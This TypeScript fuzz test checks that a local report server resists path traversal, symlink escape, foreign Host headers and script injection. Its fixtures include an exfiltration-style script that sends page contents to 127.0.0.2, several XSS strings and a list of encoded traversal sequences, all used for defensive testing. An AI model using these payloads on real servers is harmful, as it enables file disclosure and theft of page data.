// Issue 22 item 8 (serve): a seeded, bounded fuzz of `faultline serve` over crafted results folders. Run folders
// are built with hostile test.json values (markup, quotes), broken or linked-out JSON files, crafted report.html
// and node .html files, and symlinks leading out of the root (files and folders); FUZZ_SERVE_N requests (default
// 300) then ask for paths made of real names, "..", encoded and double-encoded dots and slashes, NUL, backslashes,
// hidden names and the links, some with a foreign Host. For every answer: nothing from outside the root (a marker
// in every outside file), a foreign Host refused with 421, nosniff and a policy without 'unsafe-inline' on all,
// text/html only for our pages (the index, a folder listing, a listed run's report.html), and the scripts a page's
// policy allows only ever the renderer's own. The counts are printed.
// FUZZ_SERVE_N=5000 FUZZ_SEED=7 node dist/test/unit/fuzz/serve-fuzz.test.js   for a soak.
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { Random } from '../../../harness/generator/random.js';
import { INDEX_SOURCES } from '../../../harness/report/index-page.js';
import { REPORT_SOURCES } from '../../../harness/report/report-sources.js';
import { sourceHash } from '../../../harness/report/source-hashes.js';
import { httpGet, serveOnAnyPort } from '../../helpers/http-get.js';
import { makeRunFolder } from '../../helpers/run-folders.js';

const N = Number(process.env.FUZZ_SERVE_N ?? 300);
const SEED = Number(process.env.FUZZ_SEED ?? 14);
const FOLDERS = 8;
const MARK = 'OUTSIDE-THE-ROOT-7f3a';
const EVIL = `<script>location='http://127.0.0.2/?'+document.body.innerHTML</script>`;
const HOSTILE = ['<script>alert(1)</script>', '"><img src=x>', "' onmouseover='x", '</title><script>', 'a&b'];

const rng = new Random(SEED);
const root = mkdtempSync(join(tmpdir(), 'fl-serve-fuzz-'));
const outside = mkdtempSync(join(tmpdir(), 'fl-serve-fuzz-out-'));
writeFileSync(join(outside, 'secret.txt'), MARK);
writeFileSync(join(outside, 'secret.html'), `<p>${MARK}</p>${EVIL}`);
writeFileSync(join(outside, 'test.json'), `{"name": "${MARK}"}`);

/** Run folders the index lists (a real folder with a regular test.json): their report.html is ours to send. */
const listed = new Set<string>();
/** Every crafted run folder, "<test>/<run>": most paths start at one, so they reach its files. */
const runs: string[] = [];
const names = new Set<string>(['report.html', 'history.jsonl', 'test.json', 'results.json', 'nodes', 'n1']);

function craftFolder(i: number): void {
  const r = rng.fork(i);
  const dir = makeRunFolder(root, {
    seed: 100 + i,
    stale: r.chance(0.5),
    nemesis: r.pick(['kill', 'pause', 'partition']),
  });
  const [t, run] = relative(root, dir).split('/');
  names.add(t).add(run);
  runs.push(`${t}/${run}`);
  const test = join(dir, 'test.json');
  const kind = r.int(0, 4);
  if (kind === 0) {
    // Valid shape, hostile strings in every field the index shows.
    const name = r.pick(HOSTILE);
    writeFileSync(
      test,
      JSON.stringify({
        name,
        runtime: r.pick(HOSTILE),
        startedAt: r.pick(HOSTILE),
        options: { workload: r.pick(HOSTILE), nemesis: r.pick(HOSTILE), target: r.pick(HOSTILE), seed: 3 },
        target: { name: r.pick(HOSTILE), options: {} },
        nodes: [],
        versions: { node: 'x' },
      }),
    );
  } else if (kind === 1) {
    writeFileSync(test, `{"name": "${EVIL}"`);
  } else if (kind === 2) {
    rmSync(test);
    symlinkSync(join(outside, 'test.json'), test);
  }
  if (kind !== 2) listed.add(`${t}/${run}`);
  if (r.chance(0.5)) writeFileSync(join(dir, 'report.html'), `<html><body>${EVIL}</body></html>`);
  mkdirSync(join(dir, 'nodes', 'n1'), { recursive: true });
  writeFileSync(join(dir, 'nodes', 'n1', 'evil.html'), EVIL);
  writeFileSync(join(dir, 'nodes', 'n1', 'report.html'), EVIL);
  symlinkSync(join(outside, 'secret.html'), join(dir, 'nodes', 'n1', 'out.html'));
  symlinkSync(outside, join(dir, 'nodes', 'out-dir'));
  if (r.chance(0.3)) {
    rmSync(join(dir, 'history.jsonl'));
    symlinkSync(join(outside, 'secret.txt'), join(dir, 'history.jsonl'));
  }
}

for (let i = 0; i < FOLDERS; i++) craftFolder(i);
symlinkSync(outside, join(root, 'escape'));
symlinkSync(join(outside, 'secret.txt'), join(root, 'secret.txt'));
for (const n of ['evil.html', 'out.html', 'out-dir', 'escape', 'secret.txt', 'index.html']) names.add(n);

const TRICKS = [
  '..',
  '.',
  '%2e%2e',
  '%2E%2e',
  '..%2f..',
  '%2f',
  '%5c..',
  '%00',
  '%252e%252e',
  '.hidden',
  '',
  '..;',
  '%c0%ae%c0%ae',
];
const OUTSIDE_PARTS = outside.split('/').filter(Boolean);

function segment(r: Random): string {
  const pick = r.float();
  if (pick < 0.55) {
    const s = r.pick([...names]);
    return r.chance(0.2) ? encodeURIComponent(s).replace(/\./g, '%2e') : encodeURIComponent(s);
  }
  // Tricks are written already encoded (or not): sent exactly as they are.
  return pick < 0.9 ? r.pick(TRICKS) : encodeURIComponent(r.pick(OUTSIDE_PARTS));
}

/** Files each crafted folder holds (or links), reached from the folder's path. */
const RUN_FILES = [
  'report.html',
  'history.jsonl',
  'test.json',
  'results.json',
  'nodes/n1/evil.html',
  'nodes/n1/report.html',
  'nodes/n1/out.html',
  'nodes/out-dir/secret.txt',
  'nodes/out-dir/',
];

function randomPath(r: Random): string {
  const segs: string[] = r.chance(0.6) ? r.pick(runs).split('/').map(encodeURIComponent) : [];
  if (segs.length && r.chance(0.5)) {
    const file = r.pick(RUN_FILES).split('/');
    // Sometimes a trick in the middle: a/../b, a/%2e/b, ...
    if (r.chance(0.3)) file.splice(r.int(0, file.length), 0, r.pick(TRICKS));
    return `/${[...segs, ...file].join('/')}`;
  }
  const n = r.int(segs.length ? 0 : 1, 5);
  for (let i = 0; i < n; i++) segs.push(segment(r));
  return `/${segs.join('/')}${r.chance(0.2) ? '/' : ''}${r.chance(0.1) ? '?verdict=invalid&name=%3Cscript%3E' : ''}`;
}

const allowedScripts = new Set([...INDEX_SOURCES.scripts, ...REPORT_SOURCES.scripts].map(sourceHash));

let server: Server;
let base: string;
let port: number;

test.before(async () => {
  ({ server, base, port } = await serveOnAnyPort(root));
});
test.after(() => {
  server.close();
  rmSync(root, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

test(`${N} requests over ${FOLDERS} crafted run folders: nothing outside, html only for our pages`, async () => {
  const counts: Record<string, number> = {};
  const r = rng.fork(999);
  for (let i = 0; i < N; i++) {
    const path = randomPath(r);
    const badHost = r.chance(0.1)
      ? r.pick([`rebind.example:${port}`, `127.0.0.1:${port + 1}`, 'localhost', ''])
      : undefined;
    const res = await httpGet(base, path, badHost !== undefined ? { host: badHost } : {});
    const what = `${path} (Host ${badHost ?? 'ours'}) → ${res.status} ${res.type}`;
    assert.not.ok(res.body.includes(MARK), `${what}: bytes from outside the root`);
    assert.is(res.headers['x-content-type-options'], 'nosniff', what);
    assert.ok(res.csp.startsWith("default-src 'none'"), `${what}: policy ${res.csp}`);
    assert.not.match(res.csp, /unsafe-inline|unsafe-eval/, what);
    if (badHost !== undefined) assert.is(res.status, 421, what);
    if (res.type.startsWith('text/html')) {
      // As the server sees it: the URL parser removes dot segments, encoded ones too, before anything else.
      const p = new URL(path, 'http://x').pathname;
      const segs = decodeURIComponent(p).split('/').filter(Boolean);
      const ours =
        segs.length === 0 ||
        (segs.length === 1 && segs[0] === 'index.html') ||
        p.endsWith('/') ||
        (segs.length === 3 && segs[2] === 'report.html' && listed.has(`${segs[0]}/${segs[1]}`));
      assert.ok(ours, `${what}: served as a page but not one of ours`);
      const scriptSrc = /script-src ([^;]*)/.exec(res.csp)?.[1] ?? '';
      for (const h of scriptSrc.split(' ').filter((x) => x.startsWith("'sha256-")))
        assert.ok(allowedScripts.has(h), `${what}: the policy allows a script that is not ours`);
    }
    const key = `${res.status} ${res.type.split(';')[0] || '-'}`;
    counts[key] = (counts[key] ?? 0) + 1;
  }
  process.stdout.write(`serve fuzz (seed ${SEED}): ${N} requests: ${JSON.stringify(counts)}\n`);
  assert.ok((counts['200 text/html'] ?? 0) > 0 && (counts['404 text/plain'] ?? 0) > 0, 'the paths reach both sides');
});

test.run();
